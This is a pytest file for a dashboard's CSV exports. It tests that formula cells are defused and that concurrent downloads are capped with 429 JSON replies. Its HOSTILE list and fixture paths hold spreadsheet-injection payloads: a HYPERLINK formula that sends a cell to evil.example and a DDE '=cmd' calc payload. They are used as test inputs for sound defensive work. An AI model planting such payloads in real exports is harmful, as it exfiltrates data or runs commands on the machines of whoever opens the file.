"""The CSV exports: formulas defused in /api/events.csv as in /api/users.csv, and a bound on
exports streamed at once (DASHBOARD_MAX_EXPORTS), answered 429 in JSON when full, so that
downloads of a year of events cannot starve the pages and the API (a real server, real
concurrent downloads)."""
from __future__ import annotations

import base64
import csv
import io
import json
import os
import socket
import subprocess
import time

import pytest
import sqlalchemy as sa

import db
from dashboard import audit, users_csv
from ingestion.run import Ingester
from settings import Settings

from tests.support.dashboard import (ROOT, add_stats, client_for, closed_port, server_command,
                                     sftpgo_line,
                                     wait_until_serving)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3",
           "\tx", "\rx"]


def ingest(engine, log_dir) -> None:
    ingester = Ingester(engine, Settings(log_dir=str(log_dir)))
    while not ingester.run_pass().complete:
        pass
    ingester.close()


def table(answer) -> list[dict]:
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True), newline="")))
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def test_events_csv_writes_formula_cells_as_text_and_numbers_as_numbers(engine, db_url,
                                                                        log_dir):
    """Failed-login names need no account: whatever a name, path or error starts with, a
    spreadsheet shows it as typed. Sizes and times stay numbers."""
    lines = []
    for i, name in enumerate(HOSTILE):
        ts = f"2024-09-18T10:00:{i:02d}.000"
        lines.append(sftpgo_line(ts, "connection_failed", name))
        lines.append(sftpgo_line(ts, "Upload", name, size=1000 + i, path=f"=cmd|' /C calc'!A{i}",
                                 error="-1 is not a size" if i % 2 else None))
    (log_dir / "sftpgo.log").write_bytes(b"".join(lines))
    ingest(engine, log_dir)
    answer = client_for(db_url, log_dir).get("/api/events.csv?start=2024-09-18&end=2024-09-18")
    assert answer.status_code == 200
    rows = table(answer)
    assert len(rows) == 2 * len(HOSTILE)
    assert sorted(r["username"] for r in rows) == sorted(["'" + n for n in HOSTILE] * 2)
    uploads = [r for r in rows if r["kind"] == "upload"]
    assert {r["file_path"][:5] for r in uploads} == {"'=cmd"}
    assert {r["error"] for r in uploads} == {"", "'-1 is not a size"}
    assert sorted(r["size_bytes"] for r in uploads) == [str(1000 + i) for i in range(len(HOSTILE))]
    assert {r["elapsed_ms"] for r in uploads} == {"12"}
    assert {r["failed"] for r in uploads} == {"0", "1"}
    assert all(r["ts"].startswith("2024-09-18") for r in rows)


@pytest.mark.parametrize("value, cell", [
    (-5, -5), (0, 0), (12, 12), (True, 1), (False, 0), (None, ""), ("-5", "'-5"),
    ("=1", "'=1"), ("a=1", "a=1"), ("", ""),
])
def test_an_events_cell_is_defused_only_when_it_is_text(value, cell):
    assert audit._csv_cell(value) == cell


def test_one_function_defuses_both_exports():
    from dashboard import exports
    assert users_csv.safe_cell is exports.safe_cell is audit.safe_cell


# --- the bound on exports at once, through the test client ----------------------------------

def test_an_export_past_the_bound_is_429_json_until_one_ends(engine, db_url, log_dir):
    from dashboard import exports
    add_stats(engine, [("2024-09-18", "upload", f"u{i}", 1, i, 0) for i in range(10)])
    client = client_for(db_url, log_dir, max_exports=2)
    first = client.get("/api/events.csv?start=2024-09-18", buffered=False)
    second = client.get("/api/users.csv?start=2024-09-18", buffered=False)
    assert first.status_code == second.status_code == 200
    for path in ("/api/events.csv?start=2024-09-18", "/api/users.csv?start=2024-09-18"):
        refused = client.get(path)
        assert refused.status_code == 429 and refused.mimetype == "application/json"
        assert refused.headers["Retry-After"] == str(exports.RETRY_AFTER_S)
        assert refused.get_json() == {"error": "2 CSV exports are already being downloaded "
                                               "from this server; try again in 30 seconds"}
        assert refused.headers["X-Content-Type-Options"] == "nosniff"
    assert client.get("/api/status").status_code == 200            # the rest is served
    # done (or the client went away); in this one thread the streams' request contexts are
    # a stack: the later one ends first
    second.close()
    third = client.get("/api/users.csv?start=2024-09-18", buffered=False)
    assert third.status_code == 200
    assert client.get("/api/events.csv?start=2024-09-18").status_code == 429
    assert third.get_data(as_text=True).count("\r\n") == 11    # its last chunk: done
    for _ in range(3):                         # one slot free again, each export in turn
        answer = client.get("/api/events.csv?start=2024-09-18")
        assert answer.status_code == 200 and answer.get_data(as_text=True).startswith("ts,")
    third.close()
    first.close()


def test_an_export_that_fails_at_once_frees_its_slot(sqlite_url, log_dir):
    client = client_for(sqlite_url, log_dir, max_exports=1)
    for _ in range(3):
        answer = client.get("/api/events.csv?start=garbage")
        assert answer.status_code == 400 and "start must be a date" in answer.get_json()["error"]
    assert client.get("/api/events.csv?start=2024-09-18").status_code == 200


def test_the_bound_is_a_setting(sqlite_url, log_dir):
    from settings import ConfigError, from_env
    assert from_env({"DASHBOARD_MAX_EXPORTS": "5"}).max_exports == 5
    assert Settings().max_exports == 2
    with pytest.raises(ConfigError, match="max_exports must be positive"):
        client_for(sqlite_url, log_dir, max_exports=0)


# --- a real server, real downloads ---------------------------------------------------------

EVENTS = 200_000


def many_events(url: str) -> None:
    """Writes EVENTS upload events of 2024-09 straight into the database (~30 MB of CSV)."""
    engine = db.make_engine(url)
    db.migrate(engine)
    rows = [{"f": 1, "o": i * 100, "o2": i * 100 + 99,
             "ts": f"2024-09-{1 + i % 28:02d} {i % 24:02d}:{i % 60:02d}:{i * 7 % 60:02d}.000",
             "day": f"2024-09-{1 + i % 28:02d}", "u": f"user-{i % 500}",
             "p": f"/srv/data/folder-{i % 97}/file-{i}.bin"} for i in range(EVENTS)]
    with engine.begin() as conn:
        conn.execute(sa.text(
            "INSERT INTO events (file_id, start_offset, end_offset, ts, day, kind, username,"
            " size_bytes, failed, action, remote_ip, protocol, file_path)"
            " VALUES (:f, :o, :o2, :ts, :day, 'upload', :u, 123456, 0, 'Upload',"
            " '203.0.113.9', 'SFTP', :p)"), rows)
    db.dispose_engines(url)


def start_export(port: int) -> tuple[socket.socket, bytes, bytes]:
    """Starts a download of every event and reads its first bytes only, like a client that
    stalls: the server holds the export until it gives up on the client. Returns the socket,
    the answer's head and the bytes of its body read with it."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(b"GET /api/events.csv?start=2024-09-01&end=2024-09-30 HTTP/1.1\r\n"
                     b"Host: x\r\nAuthorization: Basic " + base64.b64encode(b"ops:pw")
                     + b"\r\n\r\n")
        data = b""
        while b"\r\n\r\n" not in data:
            data += sock.recv(4096)
    except OSError:                   # no answer: a server whose threads are all held
        sock.close()
        raise
    head, _, body = data.partition(b"\r\n\r\n")
    return sock, head, body


def get_status(port: int, timeout: float = 5.0) -> tuple[int, float]:
    import http.client
    started = time.monotonic()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("GET", "/api/status",
                     headers={"Authorization": "Basic " + base64.b64encode(b"ops:pw").decode()})
        answer = conn.getresponse()
        answer.read()
        return answer.status, time.monotonic() - started
    finally:
        conn.close()


@pytest.mark.parametrize("kind", ["gunicorn", "app.py"])
def test_eight_downloads_at_once_leave_the_server_answering(kind, sqlite_url, log_dir,
                                                            tmp_path):
    """Eight clients start a download of 200,000 events and stall: two exports stream
    (DASHBOARD_MAX_EXPORTS), the other six are refused at once with 429 JSON, and
    /api/status answers meanwhile; when the two end, an export is served again."""
    many_events(sqlite_url)
    port = closed_port()
    env = {**os.environ, "DATABASE_URL": sqlite_url, "SFTPGO_LOG_DIR": str(log_dir),
           "DASHBOARD_USER": "ops", "DASHBOARD_PASSWORD": "pw",
           "DASHBOARD_REQUEST_TIMEOUT": "120", "DASHBOARD_MAX_EXPORTS": "2",
           "DASHBOARD_WORKERS": "1"}         # the bound is a process's: one process here
    with (tmp_path / "server.log").open("wb") as output:
        proc = subprocess.Popen(server_command(kind, port, sqlite_url, log_dir), cwd=ROOT,
                                env=env, stdout=output, stderr=subprocess.STDOUT)
    socks = []
    try:
        wait_until_serving(proc, port)
        answers = []
        for _ in range(8):
            sock, head, body = start_export(port)
            socks.append(sock)
            answers.append((head, body))
        codes = [head.split(b" ")[1] for head, _body in answers]
        assert codes.count(b"200") == 2 and codes.count(b"429") == 6, codes
        for sock, (head, body) in zip(socks, answers):
            if b" 429 " in head:
                assert b"\r\nRetry-After: 30\r\n" in head + b"\r\n"
                assert b"\r\nContent-Type: application/json" in head
                while not body.endswith(b"}"):
                    body += sock.recv(4096)
                assert json.loads(body)["error"].startswith("2 CSV exports are already")
        answers = [get_status(port) for _ in range(5)]
        print(f"{kind}: /api/status with 2 exports streaming and 6 refused: "
              f"{max(t for _c, t in answers) * 1000:.1f} ms at most")
        assert [c for c, _t in answers] == [200] * 5
        for sock in socks:
            sock.close()                       # the two streaming ones: the server notices
        socks = []
        deadline = time.monotonic() + 30
        while True:
            sock, head, _body = start_export(port)
            sock.close()
            if head.startswith(b"HTTP/1.1 200") or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert head.startswith(b"HTTP/1.1 200"), head
    finally:
        for sock in socks:
            sock.close()
        proc.terminate()
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
